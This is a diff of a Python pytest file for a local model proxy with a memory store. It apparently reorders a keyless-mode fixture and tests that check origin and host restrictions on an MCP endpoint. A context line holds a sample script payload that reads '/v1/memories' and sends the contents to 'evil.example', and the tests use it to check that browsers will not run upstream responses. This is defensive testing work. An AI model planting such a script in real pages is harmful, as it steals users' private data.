@@ -214,6 +214,37 @@ HI = [{"role": "user", "content": "Hi"}]
 HTML = b"<script>fetch('/v1/memories').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>"
 
 
+@pytest.fixture(scope="module")
+def unlocked(tmp_path_factory: pytest.TempPathFactory, upstream: FakeModel) -> Iterator[Proxy]:
+    """Without keys, for this machine only."""
+    folder, server = tmp_path_factory.mktemp("unlocked"), {"port": 0, "cors_origins": [PAGE]}
+    with running(folder, {"model-a": upstream.url}, keys=None, server=server) as proxy:
+        yield proxy
+
+
+def test_without_keys_everyone_here_is_the_user_local(unlocked: Proxy) -> None:
+    """Any key or none will do."""
+    body = {"model": "model-a", "messages": [{"role": "user", "content": "I live in Ystad."}]}
+    for headers in ({}, {"Authorization": "Bearer whatever"}, {"Origin": "http://localhost:3000"}):
+        assert httpx.post(f"{unlocked.url}/v1/chat/completions", json=body, headers=headers).status_code == 200
+    with httpx.Client(base_url=unlocked.url) as client:
+        remembered(client, "Ystad", "fact")
+        assert len([each for each in memories(client, "episode") if "Ystad" in each["text"]]) == 1
+
+
+def test_without_keys_no_web_page_gets_in_by_mcp(unlocked: Proxy) -> None:
+    """A page of another site, or a name that was made to point here, could read the memory otherwise."""
+    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
+    accept = {"Accept": "application/json, text/event-stream"}
+    for foreign, status in (
+        ({"Origin": "https://evil.example"}, 403),
+        ({"Host": "evil.example"}, 403),
+        ({"Origin": "http://localhost:3000"}, 200),
+    ):
+        answer = httpx.post(f"{unlocked.url}/mcp", json=call, headers=accept | foreign, timeout=PATIENCE)
+        assert (answer.status_code, "search_memories" in answer.text) == (status, status == 200)
+
+
 @pytest.mark.parametrize("path", ["/v1/embeddings", "/v1/chat/completions", "/v1/files/x"])
 @pytest.mark.parametrize("status", [200, 404, 500])
 def test_what_an_upstream_sends_runs_nothing_in_a_browser(
@@ -227,14 +258,6 @@ def test_what_an_upstream_sends_runs_nothing_in_a_browser(
         reply = httpx.post(unlocked.url + path, json={"model": "model-a", "input": "x", "messages": HI})
     assert reply.headers["content-security-policy"].startswith("sandbox;")
     assert reply.headers["x-content-type-options"] == "nosniff"
-
-
-@pytest.fixture(scope="module")
-def unlocked(tmp_path_factory: pytest.TempPathFactory, upstream: FakeModel) -> Iterator[Proxy]:
-    """Without keys, for this machine only."""
-    folder, server = tmp_path_factory.mktemp("unlocked"), {"port": 0, "cors_origins": [PAGE]}
-    with running(folder, {"model-a": upstream.url}, keys=None, server=server) as proxy:
-        yield proxy
 
 
 STRANGERS = [
@@ -277,29 +300,6 @@ def test_without_keys_only_this_machine_is_served(unlocked: Proxy, headers: dict
 )
 def test_without_keys_this_machine_and_the_listed_pages_are_served(unlocked: Proxy, headers: dict[str, str]) -> None:
     assert httpx.get(f"{unlocked.url}/v1/memories", headers=headers).status_code == 200
-
-
-def test_without_keys_everyone_here_is_the_user_local(unlocked: Proxy) -> None:
-    """Any key or none will do."""
-    body = {"model": "model-a", "messages": [{"role": "user", "content": "I live in Ystad."}]}
-    for headers in ({}, {"Authorization": "Bearer whatever"}, {"Origin": "http://localhost:3000"}):
-        assert httpx.post(f"{unlocked.url}/v1/chat/completions", json=body, headers=headers).status_code == 200
-    with httpx.Client(base_url=unlocked.url) as client:
-        remembered(client, "Ystad", "fact")
-        assert len([each for each in memories(client, "episode") if "Ystad" in each["text"]]) == 1
-
-
-def test_without_keys_no_web_page_gets_in_by_mcp(unlocked: Proxy) -> None:
-    """A page of another site, or a name that was made to point here, could read the memory otherwise."""
-    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
-    accept = {"Accept": "application/json, text/event-stream"}
-    for foreign, status in (
-        ({"Origin": "https://evil.example"}, 403),
-        ({"Host": "evil.example"}, 403),
-        ({"Origin": "http://localhost:3000"}, 200),
-    ):
-        answer = httpx.post(f"{unlocked.url}/mcp", json=call, headers=accept | foreign, timeout=PATIENCE)
-        assert (answer.status_code, "search_memories" in answer.text) == (status, status == 200)
 
 
 def test_with_an_admin_key_it_stays_closed_when_the_made_keys_are_lost(tmp_path: Path, upstream: FakeModel) -> None:
